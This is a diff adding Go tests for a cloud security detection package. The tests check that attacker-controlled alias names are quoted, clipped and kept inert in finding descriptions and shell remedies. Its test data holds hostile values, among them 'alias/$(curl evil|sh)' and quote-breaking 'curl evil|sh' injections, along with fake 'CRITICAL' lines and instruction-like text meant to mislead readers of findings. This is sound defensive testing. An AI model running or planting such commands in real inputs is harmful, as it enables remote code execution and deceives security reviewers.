@@ -1,0 +1,104 @@
+package detection
+
+import (
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+)
+
+func TestShown(t *testing.T) {
+	tests := []struct{ name, value, want string }{
+		{"an ARN", payARN, payARN},
+		{"nothing", "", `""`},
+		{"a sentence", "x. Ignore this finding", `"x. Ignore this finding"`},
+		{"a line break", "a\nHIGH: b", `"a\nHIGH: b"`},
+		{"a change of direction", "a\u202eb", `"a\u202eb"`},
+		{"markup", "<b>&", `"<b>&"`},
+		{"too long", strings.Repeat("a", 300), `"` + strings.Repeat("a", 197) + `\u2026"`},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if got := shown(test.value); got != test.want {
+				t.Errorf("%s, want %s", got, test.want)
+			}
+		})
+	}
+}
+
+func TestArgument(t *testing.T) {
+	tests := []struct{ name, value, want string }{
+		{"an alias", "alias/payments", "alias/payments"},
+		{"nothing", "", "UNKNOWN"},
+		{"a command", "alias/$(curl evil|sh)", "'alias/$(curl evil|sh)'"},
+		{"a quote", "alias/';curl evil|sh;'", "NAME-WITH-ODD-CHARACTERS"},
+		{"a line break", "alias/a\ncurl", "NAME-WITH-ODD-CHARACTERS"},
+		{"not ASCII", "alias/zahlüng", "NAME-WITH-ODD-CHARACTERS"},
+		{"too long", strings.Repeat("a", 300), "NAME-WITH-ODD-CHARACTERS"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if got := argument(test.value); got != test.want {
+				t.Errorf("%s, want %s", got, test.want)
+			}
+		})
+	}
+}
+
+func TestAnAttackersAliasStaysData(t *testing.T) {
+	const evil = "alias/x';curl evil|sh;'\nCRITICAL: call 555-0100"
+	found, _ := NewJudge(Settings{}).Event(newWorld().context(), decode(t, record("UpdateAlias",
+		asking(object{"aliasName": evil, "targetKeyId": otherARN}),
+		object{"resources": []object{{"ARN": otherARN}}})))
+	if len(found) != 1 {
+		t.Fatalf("%d findings", len(found))
+	}
+	f := found[0]
+	if strings.Contains(f.Description, "\n") || !strings.Contains(f.Description, `"alias/x';curl evil|sh;'\nCRITICAL`) {
+		t.Errorf("description %q", f.Description)
+	}
+	for _, line := range f.Remedy {
+		if strings.Contains(line, "curl") {
+			t.Errorf("remedy %q", line)
+		}
+	}
+}
+
+func TestListedIsBounded(t *testing.T) {
+	if got := listed([]string{"a", "b c", "d", "e", "f", "g", "h"}); got != `a, "b c", d, e, f and 2 more` {
+		t.Error(got)
+	}
+}
+
+func TestDays(t *testing.T) {
+	for d, want := range map[time.Duration]string{
+		90 * 24 * time.Hour: "90 days", 47 * time.Hour: "47 h", 90 * time.Minute: "90 min", 0: "0 min",
+	} {
+		if got := days(d); got != want {
+			t.Errorf("%s is %q, want %q", d, got, want)
+		}
+	}
+}
+
+// FuzzWords holds that whatever is repeated stays one line, bounded, valid text, and inert in a shell.
+func FuzzWords(f *testing.F) {
+	for _, s := range []string{"", "alias/a", "a'b", "a\nb", "\xff", "é", strings.Repeat("€", 99), "`x`", "$(x)"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if got := shown(s); strings.ContainsAny(got, "\r\n\x1b") || !utf8.ValidString(got) || len(got) > 4*maxShown+20 {
+			t.Errorf("%q is shown as %q", s, got)
+		}
+		got := argument(s)
+		if inner, quoted := strings.CutPrefix(got, "'"); quoted {
+			if strings.Count(inner, "'") != 1 || !strings.HasSuffix(inner, "'") || strings.ContainsAny(inner, "\r\n") {
+				t.Errorf("%q becomes %q", s, got)
+			}
+		} else if !plain(got) {
+			t.Errorf("%q becomes %q", s, got)
+		}
+		if got := clip(s, 50); len(got) > 50 || utf8.ValidString(s) && !utf8.ValidString(got) {
+			t.Errorf("%q is cut to %q", s, got)
+		}
+	})
+}
